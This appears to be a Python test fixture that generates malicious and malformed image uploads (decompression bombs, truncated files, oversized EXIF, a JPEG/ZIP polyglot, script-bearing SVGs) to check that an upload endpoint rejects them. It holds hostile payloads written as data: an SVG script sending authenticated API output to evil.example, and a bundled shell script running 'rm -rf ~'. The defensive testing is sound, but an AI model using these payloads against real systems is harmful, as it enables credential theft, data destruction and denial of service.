"""A corpus of malicious and broken uploads (issue 14, figure 6), made in code.

Each entry: (name, file name, bytes, the status the upload must get). Small
on disk, however large they claim to be: the bombs are a few kB that decode
to gigabytes.
"""
from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image

from tests.photos import images


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def jpeg_bomb(width: int = 60_000, height: int = 60_000) -> bytes:
    """A real 16x16 JPEG whose frame header claims 60000x60000 (3.6 gigapixels, 10.8 GB as RGB)."""
    data = bytearray(images.plain_jpeg(size=(16, 16)))
    sof = data.index(b"\xff\xc0")
    data[sof + 5:sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def webp_bomb() -> bytes:
    """A real lossy WebP whose VP8 header claims 16383x16383 (268 megapixels), the format's largest."""
    data = bytearray(images.webp(size=(16, 16)))
    assert data[12:16] == b"VP8 " and data[23:26] == b"\x9d\x01\x2a"
    data[26:30] = struct.pack("<HH", 16383, 16383)
    return bytes(data)


def png_text_bomb() -> bytes:
    """A 1x1 PNG with a zTXt chunk of 200 kB that inflates to 200 MB."""
    compressor = zlib.compressobj(9)
    text = b"".join(compressor.compress(b"\0" * 1_000_000) for _ in range(200)) + compressor.flush()
    png = images.huge_png(1, 1)
    end = png.index(b"IEND") - 4
    return png[:end] + _chunk(b"zTXt", b"Comment\0\0" + text) + png[end:]


def truncated(data: bytes, keep: float = 0.6) -> bytes:
    return data[:int(len(data) * keep)]


def jpeg_zip_polyglot() -> bytes:
    """A JPEG that is also a ZIP archive (a page and a script appended after the picture)."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("index.html", "<script>alert(document.cookie)</script>")
        z.writestr("run.sh", "#!/bin/sh\nrm -rf ~\n")
    return images.plain_jpeg() + archive.getvalue()


def png_huge_exif(size: int = 4 * 1024 * 1024) -> bytes:
    """A 64x64 PNG with a 4 MB eXIf chunk (a camera writes at most 64 kB of EXIF)."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif[0x9286] = b"A" * size  # UserComment
    out = io.BytesIO()
    Image.new("RGB", (64, 64), (10, 10, 10)).save(out, "PNG", exif=exif.tobytes())
    return out.getvalue()


def jpeg_exif_over_many_segments(segments: int = 40) -> bytes:
    """A JPEG with 40 EXIF APP1 segments of 60 kB each (2.4 MB of EXIF) before the picture."""
    jpeg = images.plain_jpeg()
    segment = b"Exif\0\0" + b"MM\0*\0\0\0\x08" + b"\0" * (60_000 - 14)
    app1 = (b"\xff\xe1" + struct.pack(">H", len(segment) + 2) + segment) * segments
    return jpeg[:2] + app1 + jpeg[2:]


def heic_bad_box() -> bytes:
    """A HEIC whose 'meta' box claims to be 4 GB long."""
    data = bytearray(images.heic(size=(256, 192)))
    meta = data.index(b"meta") - 4
    data[meta:meta + 4] = struct.pack(">I", 0xFFFFFFF0)
    return bytes(data)


SVG_WITH_SCRIPT = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="800" height="600">'
                   b'<script>fetch("/api/v1/auth/me").then(r=>r.text()).then(t=>location="//evil.example/?"+t)'
                   b'</script><rect width="800" height="600"/></svg>')


def corpus() -> list[tuple[str, str, bytes, int]]:
    phone = images.phone_jpeg((600, 800))
    return [
        ("png-bomb-30000x30000", "bomb.png", images.huge_png(30_000, 30_000), 413),
        ("jpeg-bomb-60000x60000", "bomb.jpg", jpeg_bomb(), 413),
        ("webp-bomb-16383x16383", "bomb.webp", webp_bomb(), 413),
        ("png-ztxt-bomb-200MB", "text.png", png_text_bomb(), 400),
        ("truncated-jpeg", "cut.jpg", truncated(phone), 400),
        ("truncated-png", "cut.png", truncated(images.transparent_png((600, 400))), 400),
        ("truncated-webp", "cut.webp", truncated(images.webp()), 400),
        ("truncated-heic", "cut.heic", truncated(images.heic(size=(640, 480))), 400),
        ("jpeg-zip-polyglot", "photo.jpg", jpeg_zip_polyglot(), 415),
        ("png-4MB-exif", "exif.png", png_huge_exif(), 413),
        ("jpeg-40-exif-segments", "exif.jpg", jpeg_exif_over_many_segments(), 413),
        ("zero-bytes", "empty.jpg", b"", 400),
        ("heic-bad-box", "bad.heic", heic_bad_box(), 415),
        ("svg-with-script", "plan.svg", SVG_WITH_SCRIPT, 415),
        ("svg-named-jpg", "plan.jpg", SVG_WITH_SCRIPT, 415),
    ]
